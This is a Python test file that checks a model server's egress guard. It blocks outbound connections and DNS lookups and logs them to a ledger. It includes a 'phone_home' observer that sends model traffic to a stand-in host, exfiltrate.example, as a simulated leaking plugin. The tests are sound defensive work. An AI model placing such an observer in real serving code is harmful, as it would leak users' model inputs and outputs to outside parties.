"""The egress guard, in a subprocess: audit hooks cannot be removed from the test process."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from insitu.workspace import Workspace

REPO = Path(__file__).resolve().parents[2]

SERVING_PROCESS = textwrap.dedent(
    """
    import json, socket, sys, urllib.request
    from pathlib import Path

    import httpx

    from insitu.errors import EgressBlockedError
    from insitu.serve import running
    from tests.bundle._models import mlp
    from tests.serve.conftest import WIDTHS, make_site

    site = make_site(Path(sys.argv[1]), mlp(WIDTHS)[0])
    outcome = {}

    def attempt(name, call):
        try:
            call()
            outcome[name] = "allowed"
        except EgressBlockedError:
            outcome[name] = "blocked"
        except Exception as exc:
            outcome[name] = f"{type(exc).__name__}: {exc}"

    def phone_home(model, version, inputs, outputs):
        # A plugin that leaks what the model sees: the guard stops it.
        urllib.request.urlopen("http://exfiltrate.example/collect", timeout=2)

    with running(site.workspace) as server:
        server.app.state.runtime.add_observer(phone_home)
        attempt("create_connection", lambda: socket.create_connection(("192.0.2.10", 443), 2))
        attempt("getaddrinfo", lambda: socket.getaddrinfo("pypi.org", 443))
        attempt("gethostbyname", lambda: socket.gethostbyname("example.com"))
        attempt("udp_sendto", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
            b"x", ("198.51.100.7", 53)))
        attempt("httpx_external", lambda: httpx.get("http://203.0.113.5/", timeout=2))
        attempt("loopback_connection", lambda: socket.create_connection(
            ("127.0.0.1", int(server.url.rsplit(":", 1)[1])), 2).close())
        response = httpx.post(server.url + "/v1/models/mlp/predict", headers=server.headers,
                              json={"inputs": [[0.5] * 8]})
        outcome["loopback_predict"] = response.status_code
    attempt("after_serving", lambda: socket.getaddrinfo("localhost", 80))
    print(json.dumps(outcome))
    """
)


@pytest.fixture(scope="module")
def serving_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, object], Path]:
    home = tmp_path_factory.mktemp("egress") / "site"
    env = dict(os.environ, PYTHONPATH=str(REPO))
    result = subprocess.run(
        [sys.executable, "-c", SERVING_PROCESS, str(home)],
        capture_output=True,
        text=True,
        env=env,
        cwd=REPO,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    return json.loads(result.stdout.strip().splitlines()[-1]), home


def test_guard_blocks_connections_and_lookups_to_other_hosts(
    serving_run: tuple[dict[str, object], Path],
) -> None:
    outcome, _ = serving_run
    for name in ("create_connection", "getaddrinfo", "gethostbyname", "udp_sendto"):
        assert outcome[name] == "blocked", name
    # httpx turns the refusal (an OSError) into its own ConnectError: still no traffic.
    assert "egress guard" in str(outcome["httpx_external"])


def test_loopback_still_works_while_guarded(serving_run: tuple[dict[str, object], Path]) -> None:
    outcome, _ = serving_run
    assert outcome["loopback_connection"] == "allowed"
    assert outcome["loopback_predict"] == 200  # the exfiltrating observer did not break it
    assert outcome["after_serving"] == "allowed"


def test_ledger_records_each_blocked_attempt(serving_run: tuple[dict[str, object], Path]) -> None:
    _, home = serving_run
    with Workspace.open(home).ledger() as ledger:
        assert ledger.verify().entries > 0
        blocked = {
            (e.payload["event"], e.payload["destination"])
            for e in ledger.entries(event_type="egress.blocked")
        }
    assert ("socket.connect", "192.0.2.10") in blocked
    assert ("socket.getaddrinfo", "pypi.org") in blocked
    assert ("socket.gethostbyname", "example.com") in blocked
    assert ("socket.sendto", "198.51.100.7") in blocked
    assert ("socket.getaddrinfo", "exfiltrate.example") in blocked
    assert not any(dest.startswith("127.") for _, dest in blocked)
